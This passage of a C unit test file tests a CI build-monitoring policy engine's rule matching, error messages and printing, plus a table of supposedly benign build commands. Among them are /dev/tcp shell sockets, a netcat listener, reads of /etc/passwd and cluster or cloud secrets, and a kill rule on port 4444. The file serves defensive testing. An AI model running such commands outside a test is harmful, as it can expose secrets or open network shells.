	assert_string_equal(policy_rule_name(out[1]), "x2");
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "c");
	e = ev_dns(&x, "a.b", 1);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "d");
	e = ev_file(&x, "unlink", "/x", NULL, 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "f");
	e = ev_priv(&x, "bpf", 0, false);
	assert_int_equal(policy_match_event(p, e, out, 8), 1);
	assert_string_equal(policy_rule_name(out[0]), "v");
	assert_int_equal(policy_match_event(p, e, NULL, 0), 1);
	/* an exec passed as an event matches nothing: use policy_match */
	e->kind = BW_ON_EXEC;
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	assert_int_equal(policy_match_event(NULL, e, out, 8), 0);
	assert_int_equal(policy_match_event(p, NULL, out, 8), 0);
	assert_true(policy_has_rules_on(p, BW_ON_DNS));
	policy_free(p);

	p = load_ok("rules:\n  - {name: a, action: log, on: file, match: {op: unlink}}\n");
	assert_true(policy_has_rules_on(p, BW_ON_FILE));
	assert_false(policy_has_rules_on(p, BW_ON_EXEC));
	assert_false(policy_has_rules_on(p, BW_ON_CONNECT));
	assert_false(policy_has_rules_on(NULL, BW_ON_FILE));
	e = ev_connect(&x, "1.2.3.4", 1, "tcp", NULL, 0);
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	policy_free(p);

	assert_string_equal(policy_on_name(BW_ON_EXEC), "exec");
	assert_string_equal(policy_on_name(BW_ON_CONNECT), "connect");
	assert_string_equal(policy_on_name(BW_ON_DNS), "dns");
	assert_string_equal(policy_on_name(BW_ON_FILE), "file");
	assert_string_equal(policy_on_name(BW_ON_PRIVILEGE), "privilege");
	assert_string_equal(policy_on_name((enum bw_event_kind)42), "?");
}

static void test_on_audit_vs_enforce(void **state)
{
	static const char *const yaml =
		"rules:\n"
		"  - {name: k, action: kill-job, on: connect, match: {port: 4444}}\n"
		"  - {name: kp, action: kill-process, on: privilege, match: {op: module}}\n"
		"  - {name: l, action: log, on: dns, match: {qtype: TXT}}\n";
	char buf[1024];
	struct bw_policy *p;
	struct evx x;
	size_t n;

	for (int audit = 0; audit < 2; audit++) {
		snprintf(buf, sizeof(buf), "mode: %s\n%s", audit ? "audit" : "enforce", yaml);
		p = load_ok(buf);
		assert_int_equal(policy_rule_action(policy_rule(p, 0)), POLICY_ACT_KILL_JOB);
		assert_int_equal(policy_rule_effective_action(policy_rule(p, 0)),
				 audit ? POLICY_ACT_ALERT : POLICY_ACT_KILL_JOB);
		assert_int_equal(policy_rule_effective_action(policy_rule(p, 1)),
				 audit ? POLICY_ACT_ALERT : POLICY_ACT_KILL_PROCESS);
		assert_int_equal(policy_rule_effective_action(policy_rule(p, 2)), POLICY_ACT_LOG);
		for (size_t i = 0; i < 3; i++)
			assert_false(policy_rule_in_kernel(policy_rule(p, i)));
		assert_null(policy_deny_rules(p, &n));
		/* audit changes what is done, not what matches */
		assert_true(ev_matches(p, ev_connect(&x, "1.2.3.4", 4444, "tcp", NULL, 0), "k"));
		assert_true(ev_matches(p, ev_priv(&x, "module", 0, false), "kp"));
		policy_free(p);
	}
}

static void test_on_errors(void **state)
{
	char *errs;

	/* an event condition under another on:, also nested, with its position */
	expect_load_error("rules:\n  - {name: a, action: log, match: {port: 22}}\n", "2:36",
			  "condition 'port' is only valid in rules on: connect; this rule is "
			  "on: exec (the default without 'on')");
	expect_load_error("rules:\n  - name: a\n    action: log\n    match:\n"
			  "      qname: x\n    on: connect\n", "5:7",
			  "condition 'qname' is only valid in rules on: dns; this rule is on: connect");
	expect_load_error("rules:\n  - {name: a, action: log, on: privilege, match: "
			  "{not: {path: /x}}}\n", "2:57",
			  "condition 'path' is only valid in rules on: file; this rule is on: privilege");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: {any: "
			  "[{target_in_job: true}]}}\n", "2:52",
			  "condition 'target_in_job' is only valid in rules on: file, privilege");
	expect_load_error("rules:\n  - {name: a, action: log, match: {op: unlink}}\n", "2:36",
			  "condition 'op' is only valid in rules on: file, privilege");
	expect_load_error("rules:\n  - {name: a, action: log, on: file, match: {address: 1.2.3.4}}\n",
			  "2:46", "condition 'address' is only valid in rules on: connect");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: {qnme: x}}\n",
			  "2:45", "unknown condition 'qnme'; valid: exe, filename, basename, argv, "
			  "arg0..arg4095, cmdline, argc, cwd, uid, euid, parent, ancestor, stdin, "
			  "stdout, stdio, program_from, script_origin, exe_origin, sends, env, "
			  "name_mismatch, fileless, container, not, any, qname, qtype");
	/* on: itself */
	expect_load_error("rules:\n  - {name: a, action: log, on: network, match: {port: 1}}\n",
			  "2:32", "unknown 'on' event kind 'network'; valid: exec, connect, dns, "
			  "file, privilege");
	expect_load_error("rules:\n  - {name: a, action: log, on: [dns], match: {uid: 1}}\n",
			  "2:32", "expected 'on' event kind, got a list");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, on: file, match: {uid: 1}}\n",
			  "2:37", "duplicate key 'on'");
	/* deny is for exec only */
	expect_load_error("rules:\n  - {name: a, action: deny, on: connect, match: {port: 22}}\n",
			  "2:23", "action 'deny' is only valid in rules on: exec (the kernel blocks "
			  "an exec before it runs); a rule on: connect can log, alert, "
			  "kill-process or kill-job");
	expect_load_error("mode: audit\nrules:\n  - {name: a, action: deny, on: file, "
			  "match: {basename: x}}\n", "3:23", "action 'deny' is only valid in rules on: exec");
	/* values */
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{address: 10.1.0.0/8}}\n", "2:58",
			  "'10.1.0.0/8' has bits set after the /8 prefix; did you mean 10.0.0.0/8?");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{address: [1.2.3.4/33]}}\n", "2:59", "'1.2.3.4/33': prefix length must be 0 to 32");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{address: [github.com]}}\n", "2:59",
			  "'github.com' is not an IPv4 or IPv6 address or network");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{address: {not: 1.2.3.4}}}\n", "2:58", "to negate, use not: {address: ...}");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{address: []}}\n", "2:58", "empty list");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{port: 65536}}\n", "2:55", "expected an integer from 0 to 65535");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{proto: TCP}}\n", "2:56", "unknown protocol 'TCP'; valid: tcp, udp, other");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{result: fine}}\n", "2:57", "unknown connect result 'fine'; valid: ok, "
			  "in-progress, refused");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{domain: 'a.*.com'}}\n", "2:57", "'*' may only start a name");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, match: "
			  "{domain: '*'}}\n", "2:57", "'*' is not a host name or a '*.' pattern");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: "
			  "{qname: a..b}}\n", "2:52", "'a..b' has an empty label");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: "
			  "{qtype: TXTX}}\n", "2:52", "unknown DNS type 'TXTX'; valid: A, NS");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: "
			  "{qtype: 65536}}\n", "2:52", "unknown DNS type '65536'");
	expect_load_error("rules:\n  - {name: a, action: log, on: file, match: "
			  "{op: write}}\n", "2:50", "unknown file op 'write'; valid: open-write, "
			  "open-read, rename, unlink");
	expect_load_error("rules:\n  - {name: a, action: log, on: privilege, match: "
			  "{op: [ptrace, kill]}}\n", "2:64", "unknown privilege op 'kill'; valid: "
			  "ptrace, setuid");
	expect_load_error("rules:\n  - {name: a, action: log, on: file, match: "
			  "{target_in_job: yes}}\n", "2:61",
			  "expected true or false for 'target_in_job', got 'yes'");
	expect_load_error("rules:\n  - {name: a, action: log, on: file, match: "
			  "{target_in_job: [true]}}\n", "2:61", "expected true or false, got a list");
	/* allow: */
	expect_load_error("rules:\n  - {name: a, action: log, on: file, allow: {domains: [x]}, "
			  "match: {op: unlink}}\n", "2:45",
			  "'allow' is only valid in rules on: connect or dns; this rule is on: file");
	expect_load_error("rules:\n  - {name: a, action: log, allow: {domains: [x]}}\n", "2:35",
			  "'allow' is only valid in rules on: connect or dns; this rule is on: exec");
	expect_load_error("rules:\n  - {name: a, action: log, on: dns, allow: {ports: [53]}}\n",
			  "2:45", "'ports' in 'allow' is only valid on: connect");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, allow: {hosts: [x]}}\n",
			  "2:49", "unknown key 'hosts' in 'allow'; valid keys: domains, cidrs, ports");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, allow: []}\n",
			  "2:48", "'allow' is empty");
	expect_load_error("rules:\n  - {name: a, action: log, on: connect, allow: {}}\n",
			  "2:48", "expected 'allow' to be a non-empty mapping with 'domains', "
			  "'cidrs' and/or 'ports'");
	/* every bad entry of an allow list is reported */
	errs = load_err("rules:\n  - {name: a, action: log, on: connect, allow: "
			"[{cidrs: [300.0.0.0/8]}, {ports: [x]}, {domains: ['x.*']}]}\n");
	expect_error(errs, "2:58", "'300.0.0.0/8' is not an IPv4");
	expect_error(errs, "2:82", "expected an integer from 0 to 65535, got 'x'");
	expect_error(errs, "2:98", "'x.*': '*' may only start a name");
	assert_int_equal(count_lines(errs), 3);
	free(errs);
	expect_load_error("rules:\n  - {name: a, action: log, on: connect}\n", "2:5",
			  "rule 'a' has no 'match' or 'allow'");
	expect_load_error("rules:\n  - {name: a, action: log, on: file}\n", "2:5",
			  "rule 'a' has no 'match'");
}

static void test_on_print(void **state)
{
	struct bw_policy *p = load_ok(
		"mode: audit\n"
		"rules:\n"
		"  - name: egress\n"
		"    action: kill-job\n"
		"    on: connect\n"
		"    match: {proto: tcp, result: [ok, in-progress], address: [10.0.0.0/8, '::1']}\n"
		"    allow:\n"
		"      - {domains: [github.com, '*.GitHub.com'], ports: [443]}\n"
		"      - {cidrs: [127.0.0.0/8]}\n"
		"  - {name: q, action: log, on: dns, match: {qtype: [TXT, 99]}, allow: {domains: x.org}}\n"
		"  - {name: f, action: alert, on: file, match: {op: unlink, target_in_job: false}}\n");
	char *text = print_of(p, false), *js = print_of(p, true);
	json_object *root = json_tokener_parse(js), *rules, *r, *v;

	expect_contains(text, "rule 1: egress  (t.yaml:3)\n  on:          connect\n");
	expect_contains(text, "action:      kill-job (audit mode: alert)");
	expect_contains(text, "proto is \"tcp\"");
	expect_contains(text, "result = one of 0 (ok), 115 (in-progress)");
	expect_contains(text, "address in 10.0.0.0/8, ::1/128");
	expect_contains(text, "unless allowed by one of:\n"
			      "    - name is one of \"github.com\", \"*.github.com\"; port = one of 443\n"
			      "    - address in 127.0.0.0/8; port any\n");
	expect_contains(text, "qtype = one of 16 (TXT), 99");
	expect_contains(text, "    - name is \"x.org\"\n");
	expect_contains(text, "target is outside the job");
	expect_contains(text, "op is \"unlink\"");

	if (!root)
		fail_msg("not JSON:\n%s", js);
	assert_true(json_object_object_get_ex(root, "rules", &rules));
	r = json_object_array_get_idx(rules, 0);
	assert_true(json_object_object_get_ex(r, "on", &v));
	assert_string_equal(json_object_get_string(v), "connect");
	expect_contains(js, "\"allow\":[{\"domains\":{\"any\":[{\"domain\":\"github.com\"},"
			    "{\"domain\":\"*.github.com\"}]},\"ports\":{\"any\":[{\"eq\":443}]}},"
			    "{\"cidrs\":[\"127.0.0.0/8\"]}]");
	expect_contains(js, "{\"field\":\"address\",\"cidrs\":[\"10.0.0.0/8\",\"::1/128\"]}");
	expect_contains(js, "{\"field\":\"result\",\"test\":{\"any\":[{\"eq\":0},{\"eq\":115}]}}");
	expect_contains(js, "{\"field\":\"target_in_job\",\"value\":false}");
	expect_contains(js, "{\"field\":\"op\",\"test\":{\"exact\":\"unlink\"}}");
	r = json_object_array_get_idx(rules, 1);
	assert_true(json_object_object_get_ex(r, "on", &v));
	assert_string_equal(json_object_get_string(v), "dns");
	json_object_put(root);
	free(text);
	free(js);
	policy_free(p);

	/* an allowlist alone */
	p = load_ok("rules:\n  - {name: e, action: alert, on: connect, allow: {ports: 443}}\n");
	text = print_of(p, false);
	expect_contains(text, "  when:        every connect event\n"
			      "  unless allowed by one of:\n"
			      "    - any destination; port = 443\n");
	free(text);
	js = print_of(p, true);
	expect_contains(js, "\"on\":\"connect\",\"match\":[],\"allow\":[{\"ports\":{\"eq\":443}}]");
	free(js);
	policy_free(p);
}

/* ---- the command ---- */

static int run_cmd(const char *const *args)
{
	char *argv[16];
	int argc = 0, rc, out = dup(1), err = dup(2), null = open("/dev/null", O_WRONLY);

	for (; args[argc]; argc++)
		argv[argc] = (char *)args[argc];
	argv[argc] = NULL;
	fflush(stdout);
	fflush(stderr);
	dup2(null, 1);
	dup2(null, 2);
	rc = cmd_policy(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(out, 1);
	dup2(err, 2);
	close(out);
	close(err);
	close(null);
	return rc;
}

static void test_cmd_policy(void **state)
{
	char path[] = "/tmp/test_policy_cmd_XXXXXX";
	int fd = mkstemp(path);
	const char *bad = "rules:\n  - {name: a, action: nuke, match: {exe: x}}\n";

	assert_true(fd >= 0);
	assert_int_equal(write(fd, bad, strlen(bad)), (ssize_t)strlen(bad));
	close(fd);
	assert_int_equal(run_cmd(ARGV("policy", "--help")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--help")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--default")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "-j", "--default")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "default")), 0);
	/* Invalid input is 65, a wrong command line 64 (docs/CLI.md, "Exit statuses"). */
	assert_int_equal(run_cmd(ARGV("policy", "check", path)), 65);
	assert_int_equal(run_cmd(ARGV("policy", "check", "/nonexistent.yaml")), 65);
	assert_int_equal(run_cmd(ARGV("policy", "check")), 64);
	assert_int_equal(run_cmd(ARGV("policy", "check", "a", "b")), 64);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--default", path)), 64);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--bogus", path)), 64);
	assert_int_equal(run_cmd(ARGV("policy", "frobnicate")), 64);
	assert_int_equal(run_cmd(ARGV("policy")), 64);
	unlink(path);
}

/* ---- the default policy ---- */

static void test_default_loads(void **state)
{
	struct bw_policy *p = NULL;
	size_t n;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	assert_true(policy_rule_count(p) >= 8);
	assert_string_equal(policy_source(p), POLICY_DEFAULT_NAME);
	assert_int_equal(policy_mode(p), POLICY_MODE_ENFORCE);
	/* the default never kills: it must not fail a healthy build */
	for (size_t i = 0; i < policy_rule_count(p); i++) {
		enum policy_action a = policy_rule_action(policy_rule(p, i));

		assert_true(a == POLICY_ACT_ALERT || a == POLICY_ACT_LOG);
	}
	policy_deny_rules(p, &n);
	assert_int_equal(n, 0);
	policy_free(p);
}

struct exec_case {
	const char *exe;
	const char *const *argv;
	const char *const *anc;
	const char *rule; /* expected rule, NULL for none */
};

#define BUILD_ANC ANC("/usr/bin/make", "/usr/bin/bash", "/usr/lib/runner/Runner.Worker")
#define SH_MAKE ANC("/usr/bin/dash", "/usr/bin/make", "/usr/bin/bash")
#define NPM_ANC ANC("/usr/bin/dash", "/usr/bin/node", "/usr/bin/bash")

static const struct exec_case ordinary[] = {
	{ "/usr/bin/make", ARGV("make", "-j8"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash", ARGV("/bin/sh", "-c", "gcc -O2 -Wall -c foo.c -o foo.o"), BUILD_ANC, NULL },
	{ "/usr/bin/x86_64-linux-gnu-gcc-12", ARGV("gcc", "-O2", "-c", "foo.c"), SH_MAKE, NULL },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
	  ARGV("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "foo.c", "-quiet",
	       "-dumpbase", "foo.c", "-mtune=generic", "-march=x86-64", "-O2",
	       "-o", "/tmp/ccA1b2C3.s"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/dash", "/usr/bin/make"), NULL },
	{ "/usr/bin/x86_64-linux-gnu-as",
	  ARGV("as", "--64", "-o", "foo.o", "/tmp/ccA1b2C3.s"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/dash"), NULL },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
	  ARGV("/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-plugin",
	       "/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so", "-o", "prog",
	       "/tmp/ccXyZ.o", "-lc"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12"), NULL },
	{ "/usr/bin/x86_64-linux-gnu-ld.bfd", ARGV("/usr/bin/ld", "-o", "prog", "foo.o", "-lc"),
	  ANC("/usr/lib/gcc/x86_64-linux-gnu/12/collect2"), NULL },
	{ "/usr/bin/bash", ARGV("/bin/bash", "./configure", "--prefix=/usr"), BUILD_ANC, NULL },
	{ "/usr/bin/dash",
	  ARGV("/bin/sh", "-c", "eval \"$ac_compile\" 2>conftest.err; test $? = 0 && exec 5>&1"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/home/ci/src/project/conftest", ARGV("./conftest"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/sed", ARGV("sed", "-e", "s/@VERSION@/1.2/g", "config.h.in"), SH_MAKE, NULL },
	{ "/usr/bin/gawk", ARGV("awk", "-F:", "{print $1}", "/etc/passwd"), SH_MAKE, NULL },
	{ "/usr/bin/python3.11", ARGV("python3", "setup.py", "build_ext", "--inplace"), SH_MAKE, NULL },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import sysconfig; print(sysconfig.get_paths()['include'])"),
	  SH_MAKE, NULL },
	{ "/usr/bin/node", ARGV("node", "/usr/bin/npm", "install"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash", ARGV("sh", "-c", "node-gyp rebuild"), ANC("/usr/bin/node"), NULL },
	{ "/usr/bin/git", ARGV("git", "clone", "--depth=1", "https://github.com/x/y.git"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/git", ARGV("git", "describe", "--tags", "--always"), SH_MAKE, NULL },
	{ "/usr/bin/curl", ARGV("curl", "-fsSLo", "dl.tar.gz", "https://example.com/dl.tar.gz"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash",
	  ARGV("/bin/sh", "-c", "curl -fsSL https://example.com/x.tar.gz | tar xz -C deps"),
	  SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "curl -s https://example.com/SHA256SUMS | sha256sum -c -"), SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "curl -s https://api.github.com/repos/x/y | python3 -c 'import json,sys; print(json.load(sys.stdin))'"),
	  SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "V=$(curl -s https://api.example.com/v) && echo $V"), SH_MAKE, NULL },
	{ "/usr/bin/bash", ARGV("bash", "/usr/bin/bats", "tests/cli"), BUILD_ANC, NULL },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 3>&1; out=$(./prog 2>&1 >&3); echo \"$out\" >&2"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/tmp/bats-run-AbC123/bats.1234.src/fixture", ARGV("fixture", "--x"),
	  ANC("/usr/bin/bash", "/usr/bin/bash"), NULL },
	{ "/tmp/tmp.XyZ123abc/prog", ARGV("./prog"), ANC("/usr/bin/bash", "/usr/bin/make"), NULL },
	{ "/tmp/go-build123456/b001/pkg.test", ARGV("/tmp/go-build123456/b001/pkg.test", "-test.v"),
	  ANC("/usr/local/go/bin/go"), NULL },
	{ "/tmp/.tmpAbC123/fake-git", ARGV("git", "status"), ANC("/home/ci/target/debug/deps/t"), NULL },
	{ "/tmp/.mount_linuxdAbCdE/AppRun", ARGV("linuxdeploy", "--appdir", "AppDir"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/libexec/valgrind/memcheck-amd64-linux",
	  ARGV("valgrind", "--leak-check=full", "--error-exitcode=1", "build/tests/unit/test_policy"),
	  SH_MAKE, NULL },
	{ "/home/ci/src/project/build/buildwarden",
	  ARGV("build/buildwarden", "policy", "check", "--default"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "/proc/cpuinfo"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "/proc/self/status"), SH_MAKE, NULL },
	{ "/usr/bin/nproc", ARGV("nproc"), SH_MAKE, NULL },
	{ "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "git@github.com"),
	  ANC("/usr/bin/git"), NULL },
	{ "/usr/bin/cat", ARGV("cat", "/home/ci/.ssh/id_rsa.pub"), SH_MAKE, NULL },
	{ "/usr/bin/cp", ARGV("cp", ".npmrc.example", "web/.npmrc.example"), SH_MAKE, NULL },
	/* CI setting up credentials, and a project's own registry config */
	{ "/usr/bin/cp", ARGV("cp", "/tmp/k", "/home/ci/.ssh/id_ed25519"), SH_MAKE, NULL },
	{ "/usr/bin/cp", ARGV("cp", "ci/kubeconfig", "/root/.kube/config"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "./.npmrc"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "packages/web/.npmrc"), SH_MAKE, NULL },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"),
	  SH_MAKE, NULL },
	{ "/tmp/w/node_modules/esbuild/bin/esbuild", ARGV("esbuild", "--version"),
	  ANC("/usr/bin/dash", "/usr/bin/node"), NULL },
	{ "/usr/bin/nc.openbsd", ARGV("nc", "-z", "-w", "3", "localhost", "5432"), SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "until echo > /dev/tcp/localhost/5432; do sleep 1; done 2>/dev/null"),
	  SH_MAKE, NULL },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c",
	       "exec 3<>/dev/tcp/$HOST/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; "
	       "while read -r l <&3; do echo \"$l\"; done"),
	  SH_MAKE, NULL },
	{ "/usr/bin/tar", ARGV("tar", "czf", "dist.tar.gz", "build/", "docs/"), SH_MAKE, NULL },
	{ "/usr/bin/strip", ARGV("strip", "--strip-unneeded", "prog"), SH_MAKE, NULL },
	{ "/usr/bin/install", ARGV("install", "-m", "0755", "prog", "/tmp/stage/usr/bin/"),
	  SH_MAKE, NULL },
	{ "/tmp/stage/usr/bin/prog", ARGV("prog", "--version"), SH_MAKE, NULL },
	{ "/usr/bin/dpkg-buildpackage", ARGV("dpkg-buildpackage", "-us", "-uc", "-b"),
	  ANC("/usr/bin/bash"), NULL },
	/* actions/checkout's own handling of its token header */
	{ "/usr/bin/git",
	  ARGV("git", "config", "--local", "--name-only", "--get-regexp",
	       "http\\.https\\:\\/\\/github\\.com\\/\\.extraheader"),
	  ANC("/usr/bin/node"), NULL },
	{ "/usr/bin/git",
	  ARGV("git", "config", "--local", "http.https://github.com/.extraheader",
	       "AUTHORIZATION: basic ***"),
	  ANC("/usr/bin/node"), NULL },
	{ "/usr/bin/git", ARGV("git", "config", "--local", "--unset-all",
			       "http.https://github.com/.extraheader"), ANC("/usr/bin/node"), NULL },
	/* services a build starts and stops; containers it runs */
	{ "/usr/bin/systemctl", ARGV("systemctl", "stop", "postgresql"), SH_MAKE, NULL },
	{ "/usr/bin/systemctl", ARGV("systemctl", "status", "auditd"), SH_MAKE, NULL },
	{ "/usr/bin/pkill", ARGV("pkill", "-f", "http.server"), SH_MAKE, NULL },
	{ "/usr/sbin/auditctl", ARGV("auditctl", "-l"), SH_MAKE, NULL },
	{ "/usr/bin/docker",
	  ARGV("docker", "run", "--rm", "--privileged", "multiarch/qemu-user-static", "--reset", "-p",
	       "yes"), SH_MAKE, NULL },
	{ "/usr/bin/docker",
	  ARGV("docker", "run", "--rm", "-v", "/src:/src", "-v", "/var/run/docker.sock:/var/run/docker.sock",
	       "-w", "/src", "golang:1.22", "go", "build"), SH_MAKE, NULL },
	{ "/usr/bin/nsenter", ARGV("nsenter", "--net=/run/netns/ci", "ip", "addr"), SH_MAKE, NULL },
	/* multi-arch builds register binfmt handlers privileged, in their own PID namespace */
	{ "/usr/bin/docker",
	  ARGV("docker", "run", "--rm", "--privileged", "tonistiigi/binfmt", "--install", "all"),
	  SH_MAKE, NULL },
	/* a scope stays in the job; listing at's queue; bpftool reading */
	{ "/usr/bin/systemd-run", ARGV("systemd-run", "--user", "--scope", "-p", "MemoryMax=2G", "make"),
	  SH_MAKE, NULL },
	{ "/usr/bin/at", ARGV("at", "-l"), SH_MAKE, NULL },
	/* a build user for tests; uid 1000 is no root */
	{ "/usr/sbin/useradd", ARGV("useradd", "-m", "-u", "1000", "builder"), SH_MAKE, NULL },
	{ "/usr/sbin/bpftool", ARGV("bpftool", "prog", "show"), SH_MAKE, NULL },
	{ "/usr/sbin/bpftool", ARGV("bpftool", "gen", "skeleton", "x.bpf.o"), SH_MAKE, NULL },
	/* other attributes; ssh's ordinary options and local forwarding; loop and pseudo mounts */
	{ "/usr/bin/chattr", ARGV("chattr", "+C", "/var/lib/build"), SH_MAKE, NULL },
	/* builds remove their own trees and caches, not a home or the root */
	{ "/usr/bin/rm", ARGV("rm", "-rf", "build/", "/tmp/tmp.x1", "/home/ci/project/dist"), SH_MAKE,
	  NULL },
	{ "/usr/bin/rm", ARGV("rm", "-rf", "/home/ci/.cache/pip"), SH_MAKE, NULL },
	{ "/usr/bin/rm", ARGV("rm", "-f", "/home/ci"), SH_MAKE, NULL },
	{ "/usr/bin/find", ARGV("find", ".", "-name", "*.o", "-delete"), SH_MAKE, NULL },
	{ "/usr/bin/find", ARGV("find", "/home/ci/.npm/_cacache", "-type", "f", "-delete"), SH_MAKE,
	  NULL },
	{ "/usr/bin/find", ARGV("find", "/home/ci", "-name", "*.pyc"), SH_MAKE, NULL },
	{ "/usr/bin/gitlab-runner", ARGV("gitlab-runner", "--version"), SH_MAKE, NULL },
	/* npm's ordinary configuration; the CLIs' ordinary calls */
	{ "/usr/bin/npm", ARGV("npm", "config", "set", "registry", "https://registry.npmjs.org/"),
	  SH_MAKE, NULL },
	{ "/usr/bin/gh", ARGV("gh", "auth", "status"), SH_MAKE, NULL },
	{ "/usr/local/bin/aws", ARGV("aws", "configure", "get", "region"), SH_MAKE, NULL },
	{ "/usr/local/bin/aws", ARGV("aws", "iam", "get-role", "--role-name", "deploy"), SH_MAKE, NULL },
	{ "/usr/local/bin/aws", ARGV("aws", "s3", "cp", "dist/", "s3://b/create-access-key/", "--recursive"),
	  SH_MAKE, NULL },
	{ "/bin/busybox", ARGV("busybox", "nc", "-l", "-p", "8080"), SH_MAKE, NULL },
	{ "/usr/sbin/shutdown", ARGV("shutdown", "--help"), SH_MAKE, NULL },
	{ "/usr/bin/kubectl", ARGV("kubectl", "get", "secret", "regcred", "-n", "ci", "-o", "json"),
	  SH_MAKE, NULL },
	{ "/usr/bin/kubectl", ARGV("kubectl", "get", "pods", "-A"), SH_MAKE, NULL },
	{ "/usr/local/bin/aws",
	  ARGV("aws", "secretsmanager", "get-secret-value", "--secret-id", "ci/deploy"), SH_MAKE, NULL },
	{ "/usr/bin/mount", ARGV("mount", "-t", "proc", "proc", "/tmp/root/proc"), SH_MAKE, NULL },
	{ "/usr/bin/systemctl", ARGV("systemctl", "is-system-running"), SH_MAKE, NULL },
	{ "/usr/sbin/setenforce", ARGV("setenforce", "1"), SH_MAKE, NULL },
	{ "/usr/sbin/apparmor_parser", ARGV("apparmor_parser", "-r", "/etc/apparmor.d/x"), SH_MAKE,
	  NULL },
	{ "/bin/busybox", ARGV("busybox", "--install", "-s"), SH_MAKE, NULL },
	{ "/bin/busybox", ARGV("wget", "-q", "-O", "/tmp/x.tgz", "https://example.org/x.tgz"), SH_MAKE,
	  NULL },
	/* ping without a payload; ps without environments; ordinary URLs */
	{ "/usr/bin/ping", ARGV("ping", "-c", "3", "-W", "1", "db"), SH_MAKE, NULL },
	{ "/usr/bin/ps", ARGV("ps", "aux"), SH_MAKE, NULL },
	{ "/usr/bin/ps", ARGV("ps", "-eo", "pid,etime,comm"), SH_MAKE, NULL },
	{ "/usr/bin/ps", ARGV("ps", "-p", "42", "-o", "etime="), SH_MAKE, NULL },
	{ "/usr/bin/curl", ARGV("curl", "-fsSL", "https://api.github.com/repos/o/webhook.site-docs"),
	  SH_MAKE, NULL },
	{ "/usr/bin/git", ARGV("git", "clone", "https://github.com/o/transfer.sh.git"), SH_MAKE, NULL },
	{ "/usr/bin/lsattr", ARGV("lsattr", "-d", "/tmp"), SH_MAKE, NULL },
	{ "/usr/bin/ssh",
	  ARGV("ssh", "-oUserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-i", "k",
	       "-p", "2222", "-T", "git@github.com"),
	  SH_MAKE, NULL },
	{ "/usr/bin/ssh", ARGV("ssh", "-fNL", "5432:db:5432", "bastion"), SH_MAKE, NULL },
	{ "/usr/bin/mount", ARGV("mount", "-o", "loop", "disk.img", "/mnt/img"), SH_MAKE, NULL },
